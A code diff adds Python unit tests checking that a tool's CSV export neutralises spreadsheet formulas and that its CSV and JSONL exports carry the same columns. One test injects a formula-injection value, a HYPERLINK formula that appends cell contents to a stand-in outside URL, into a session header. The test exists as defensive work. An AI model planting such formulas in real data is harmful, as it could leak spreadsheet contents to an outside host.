@@ -320,6 +320,25 @@ class ControlTest(FlowTest):
         self.assertEqual(run("export", "decisions", "--store", self.folder / "none.db").returncode, 1)
         self.assertEqual(run("export", "nothing").returncode, 2)
 
+    def test_exports_no_text_that_a_spreadsheet_would_run(self):
+        formula = '=HYPERLINK("http://example.org/"&A1)'
+        status, headers, _ = self.router.chat("sure?", headers={"x-signalbox-session": formula})
+        self.assertEqual(status, 200)
+        self.router.decision(headers["x-signalbox-decision-id"])
+        store = self.folder / "signalbox.db"
+        row, = csv.DictReader(io.StringIO(run("export", "decisions", "--store", store).stdout, newline=""))
+        self.assertEqual(row["session"], "'" + formula)
+        self.assertFalse([name for name, cell in row.items() if cell[:1] in "=+-@" and cell and not cell[1:2].isdigit()])
+        exact = json.loads(run("export", "decisions", "--store", store, "--format", "jsonl").stdout)
+        self.assertEqual(exact["session"], formula)
+
+    def test_exports_every_column_of_an_attempt(self):
+        self.router.decision(self.ask("unsure?"))
+        store = self.folder / "signalbox.db"
+        names = run("export", "attempts", "--store", store).stdout.splitlines()[0].split(",")
+        written = [json.loads(line) for line in run("export", "attempts", "--store", store, "--format", "jsonl").stdout.splitlines()]
+        self.assertEqual(sorted(names), sorted({name for one in written for name in one}))
+
 
 if __name__ == "__main__":
     unittest.main()
